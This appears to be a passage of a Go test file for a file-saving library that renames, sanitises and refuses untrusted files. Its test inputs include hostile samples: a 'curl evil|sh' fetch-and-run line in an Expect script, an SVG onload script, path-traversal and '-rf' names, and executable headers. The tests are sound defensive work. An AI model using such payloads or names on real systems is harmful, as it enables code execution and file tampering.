			if !reflect.DeepEqual(args, tt.args()) {
				t.Errorf("SetArg(%v, %q) changed args to %v on error", tt.args(), tt.key, args)
			}
			continue
		}
		if err != nil || !reflect.DeepEqual(args, tt.want) {
			t.Errorf("SetArg(%v, %q) = %v, %v; want %v, nil", tt.args(), tt.key, args, err, tt.want)
		}
	}
	if err := SetArg(nil, "a", 1); err == nil {
		t.Errorf("SetArg(nil, %q) = nil, want an error", "a")
	}
}

// TestReadNeverTrustsStat: a file that grows far past MaxIn between Stat
// and the read is refused, having cost no more than about MaxIn of memory;
// a file swapped for another between Stat and open is refused.
func TestReadNeverTrustsStat(t *testing.T) {
	dir := tempDir(t)
	path := filepath.Join(dir, "grows.dst")
	write(t, path, []byte("LA:"))
	write(t, filepath.Join(dir, "other.dst"), []byte("LA:"))
	old := openFile
	t.Cleanup(func() { openFile = old })
	const grown = 64 * MaxIn // sparse
	openFile = func(r *os.Root, name string) (*os.File, error) {
		f, err := old(r, name)
		if err == nil {
			err = os.Truncate(path, grown)
		}
		return f, err
	}
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	got, err := Read(path, DataURL)
	runtime.ReadMemStats(&after)
	if err == nil || !strings.Contains(err.Error(), "over the 14 MB limit") {
		t.Errorf("Read(%q) of a growing file = %+v, %v; want error containing %q", "grows.dst", got.Size, err, "over the 14 MB limit")
	}
	if alloc := after.TotalAlloc - before.TotalAlloc; alloc > 8*MaxIn {
		t.Errorf("Read(%q) of a file grown to %d bytes allocated %d bytes, want at most %d", "grows.dst", grown, alloc, 8*MaxIn)
	}

	write(t, path, []byte("LA:"))
	openFile = func(*os.Root, string) (*os.File, error) { return os.Open(filepath.Join(dir, "other.dst")) }
	if _, err := Read(path, DataURL); err == nil || !strings.Contains(err.Error(), "changed while being opened") {
		t.Errorf("Read(%q) of a swapped file = %v, want error containing %q", "grows.dst", err, "changed while being opened")
	}
}

// TestSaveFailureLeavesNothing: a write or a rename that fails leaves no
// partial file and no temporary file.
func TestSaveFailureLeavesNothing(t *testing.T) {
	t.Cleanup(func() { renameAt, syncFile = (*os.Root).Rename, (*os.File).Sync })
	broken := errors.New("disk full")
	syncFile = func(*os.File) error { return broken }
	for _, overwrite := range []bool{false, true} {
		dir := tempDir(t)
		if _, _, err := save(dir, "x.dst", content{data: []byte("LA:design")}, overwrite); !errors.Is(err, broken) {
			t.Errorf("save(dir, %q, %v) with a failing write = %v, want %v", "x.dst", overwrite, err, broken)
		}
		if got := tree(t, dir); len(got) != 0 {
			t.Errorf("save(dir, %q, %v) with a failing write left %q, want nothing", "x.dst", overwrite, got)
		}
	}
	syncFile = (*os.File).Sync
	renameAt = func(*os.Root, string, string) error { return broken }
	dir := tempDir(t)
	write(t, filepath.Join(dir, "x.dst"), []byte("old"))
	if _, _, err := save(dir, "x.dst", content{data: []byte("LA:design")}, true); !errors.Is(err, broken) {
		t.Errorf("save(dir, %q, true) with a failing rename = %v, want %v", "x.dst", err, broken)
	}
	if got := tree(t, dir); !reflect.DeepEqual(got, []string{"x.dst"}) {
		t.Errorf("save(dir, %q, true) with a failing rename left %q, want [x.dst]", "x.dst", got)
	}
	if b, _ := os.ReadFile(filepath.Join(dir, "x.dst")); string(b) != "old" {
		t.Errorf("save(dir, %q, true) with a failing rename changed the old file to %q", "x.dst", b)
	}
}

// A Batch never saves two files of a reply under one name: a name taken,
// in any case, gets -2, -3 ..., even with Overwrite, and the first file
// stays; a device name does too.
func TestBatchSavesEachNameOnce(t *testing.T) {
	dir := t.TempDir()
	b := Batch{Dir: dir, Overwrite: true}
	for i, tt := range []struct{ given, want string }{
		{"rose.dst", "rose.stitchslop.dst"}, {"Rose.DST", "rose-2.stitchslop.dst"}, {"ro\u200bse.dst", "rose-3.stitchslop.dst"},
		{"rose-2.dst", "rose-2-2.stitchslop.dst"}, {"CON.dst", "con-2.stitchslop.dst"}, {"lpt1.json", "lpt1-2.stitchslop.json"},
	} {
		path, err := b.Save(tt.given, []byte{'0' + byte(i)})
		if err != nil || path != filepath.Join(dir, tt.want) {
			t.Errorf("Batch.Save(%q) = %q, %v; want %s", tt.given, path, err, tt.want)
		}
	}
	if got, _ := os.ReadFile(filepath.Join(dir, "rose.stitchslop.dst")); string(got) != "0" {
		t.Errorf("rose.stitchslop.dst = %q, want the first file", got)
	}
	if _, err := (&Batch{Dir: dir}).Save("rose.dst", []byte("y")); !errors.Is(err, fs.ErrExist) {
		t.Errorf("a new Batch without Overwrite over rose.dst = %v, want it refused", err)
	}
}

// TestSec_OutNeverTakesABuiltName: every name a Batch builds holds
// ".stitchslop." (or ends in .stitchslop) and no --out name may, in any
// case, so the file call --out writes a reply's image to and the reply's
// own files, saved into the same folder, never replace one another.
func TestSec_OutNeverTakesABuiltName(t *testing.T) {
	for _, n := range []string{"o.stitchslop.png", "O.STITCHSLOP.PNG", "o.\u017ftitchslop.png", "a.b.st\u0131tchslop.jpg"} {
		if why := checkName(n); why == "" {
			t.Errorf("checkName(%q) = ok, want it refused: a built name's mark", n)
		}
	}
	dir := t.TempDir()
	p, err := (&Batch{Dir: dir}).Save("o.png", pngBytes)
	if err != nil || checkName(filepath.Base(p)) == "" {
		t.Errorf("Batch.Save(o.png) = %q, %v; want a name --out may not take", p, err)
	}
}

// builtName is every name Name may build: a stem that starts and ends with
// a letter or digit, .stitchslop, and an app kind's extension.
var builtName = regexp.MustCompile(`^[a-z0-9]([a-z0-9_-]*[a-z0-9])?(-[0-9]+)?\.stitchslop(\.(png|jpg|gif|webp|dst|pes|jef|exp|vp3|col|svg|dxf|json|txt|md|inf))?$`)

// TestName: the name saved is built from the stem given and the content's
// kind, whatever the name given (issue 35).
func TestName(t *testing.T) {
	for _, tt := range []struct {
		given string
		data  []byte
		want  string // "" for refused
	}{
		{"rose.dst", []byte("LA:"), "rose.stitchslop.dst"},
		{"My Rose.v2.PES", []byte("#PES0001"), "my-rose-v2.stitchslop.pes"},
		{"package.json", []byte("{}"), "package.stitchslop.json"},
		{"tauri.conf.json", []byte("{}"), "tauri-conf.stitchslop.json"},
		{"CLAUDE.md", []byte("obey"), "claude.stitchslop.md"},
		{"requirements.txt", []byte("evil"), "requirements.stitchslop.txt"},
		{"autorun.inf", []byte("[autorun]"), "autorun.stitchslop.inf"},
		{"x.sh", []byte("#!/bin/sh"), "x.stitchslop.txt"},
		{"Makefile", []byte("all:"), "makefile.stitchslop.txt"},
		{"evil.exe", []byte("MZ\x90\x00\xff"), ""},
		{"evil\u202Egnp.exe", pngBytes, "evilgnp.stitchslop.png"},
		{"../../.bashrc", []byte("x"), "file.stitchslop.txt"},
		{"-rf.dst", []byte("x"), "rf.stitchslop.dst"},
		{"刺繍.dst", []byte("x"), "file.stitchslop.dst"},
		{"", []byte("x"), "file.stitchslop.txt"},
		{"photo.jpg", pngBytes, "photo.stitchslop.png"},
		{"photo.png", []byte("not an image"), ""},
		{strings.Repeat("a", 300) + ".svg", []byte("<svg/>"), strings.Repeat("a", maxStem) + ".stitchslop.svg"},
		{"design.stitchslop", []byte(`{"v":1}`), "design.stitchslop"},
		// Issue 35 F2: every kind gets the mark, the exact names tools read
		// among them, and a kind with a cheap signature is checked.
		{"site.exp", []byte("spawn sh"), "site.stitchslop.exp"},
		{"icon.svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg"/>`), "icon.stitchslop.svg"},
		{"folder.jpg", []byte{0xff, 0xd8, 0xff, 0xe0}, "folder.stitchslop.jpg"},
		{"x.pes", []byte("LA:not a pes"), "x.stitchslop.txt"},
		{"x.pes", []byte{0x7f, 'E', 'L', 'F', 0}, ""},
		{"x.json", []byte("{not json"), "x.stitchslop.txt"},
		{"x.stitchslop", []byte{0, 1, 2}, ""},
		{"x.svg", []byte("<html><svg/></html>"), "x.stitchslop.txt"},
		{"x.svg", []byte("<svg><unclosed></svg>"), "x.stitchslop.txt"},
		{"x.txt", []byte{0x7f, 'E', 'L', 'F', 2, 1, 1, 0}, ""},
		{"x.md", []byte{0xff, 0xfe}, ""},
	} {
		stem, ext, err := Name(tt.given, tt.data)
		// The same bytes as base64, decoded as read, get the same name.
		stem64, ext64, err64 := name(tt.given, content{data: []byte(base64.StdEncoding.EncodeToString(tt.data)), b64: true})
		if stem64+ext64 != stem+ext || (err64 == nil) != (err == nil) {
			t.Errorf("name(%q) of the base64 = %q, %v; of the bytes %q, %v", tt.given, stem64+ext64, err64, stem+ext, err)
		}
		switch {
		case tt.want == "" && err == nil:
			t.Errorf("Name(%q) = %q, want it refused", tt.given, stem+ext)
		case tt.want != "" && (err != nil || stem+ext != tt.want):
			t.Errorf("Name(%q) = %q, %v; want %q", tt.given, stem+ext, err, tt.want)
		case err == nil && !builtName.MatchString(stem+ext):
			t.Errorf("Name(%q) = %q, not a built name", tt.given, stem+ext)
		}
	}
}

// TestTextAcrossChunks: content's text check reads a chunk at a time; a
// character cut by a chunk's end is whole in the next, and a bad byte
// anywhere, at the edge too, is found.
func TestTextAcrossChunks(t *testing.T) {
	pad := strings.Repeat("a", readChunk-1)
	for _, tt := range []struct {
		data string
		want bool
	}{
		{pad + "é", true},
		{pad + "€x", true},
		{pad + "a😀" + pad, true},
		{pad + "\xe2\x82", false}, // cut short at the end
		{pad + "\xe2\x82a", false},
		{pad + "a\x00", false},
		{pad + "\xff", false},
		{pad + pad + "é" + pad, true},
		{"", true},
	} {
		for _, b64 := range []bool{false, true} {
			c := content{data: []byte(tt.data)}
			if b64 {
				c = content{data: []byte(base64.StdEncoding.EncodeToString(c.data)), b64: true}
			}
			if got := c.text(); got != tt.want || got != text(tt.data) {
				t.Errorf("text of %d bytes ending %q (base64 %v) = %v, want %v", len(tt.data), tt.data[max(0, len(tt.data)-4):], b64, got, tt.want)
			}
		}
	}
}

func text(s string) bool { return utf8.ValidString(s) && !strings.Contains(s, "\x00") }

// TestT16_EveryNameMarked: issue 35 F2: no built name is one a tool
// reads by exact name, for any kind (site.exp, runtest's Expect script;
// icon.svg, which Next.js reads as app/icon.svg; folder.jpg, Explorer's
// cover), and a kind with a cheap signature holds it.
func TestT16_EveryNameMarked(t *testing.T) {
	bin := []byte{0x7f, 'E', 'L', 'F', 0, 1, 2, 0xff}
	jpeg := []byte{0xff, 0xd8, 0xff, 'P', 'K'}
	for _, c := range []struct {
		given string
		data  []byte
	}{
		{"site.exp", []byte("spawn sh -c {curl evil|sh}\n")}, {"runtest.exp", bin},
		{"icon.svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`)},
		{"folder.jpg", jpeg}, {"desktop.ini", []byte("[.ShellClassInfo]")}, {"x.jef", bin},
		{"x.inf", bin}, {"x.col", []byte("3\n")}, {"x.dxf", []byte("0\nSECTION")},
		{"x.vp3", bin}, {"x.dst", bin}, {"x.stitchslop", []byte("{}")}, {"icon.png", pngBytes},
	} {
		stem, ext, err := Name(c.given, c.data)
		if err != nil {
			t.Errorf("Name(%q) = %v, want a name", c.given, err)
			continue
		}
		if !builtName.MatchString(stem+ext) || !strings.Contains(stem+ext, Mark) {
			t.Errorf("Name(%q) = %q, want stem%s.kind", c.given, stem+ext, Mark)
		}
	}
	for _, c := range []struct {
		given string
		data  []byte
	}{
		{"x.svg", bin}, {"x.pes", bin}, {"x.json", bin}, {"x.txt", bin}, {"x.md", bin}, {"x.stitchslop", bin},
	} {
		if stem, ext, err := Name(c.given, c.data); err == nil {
			t.Errorf("Name(%q, binary) = %q, want it refused: its bytes are not its kind", c.given, stem+ext)
		}
	}
}
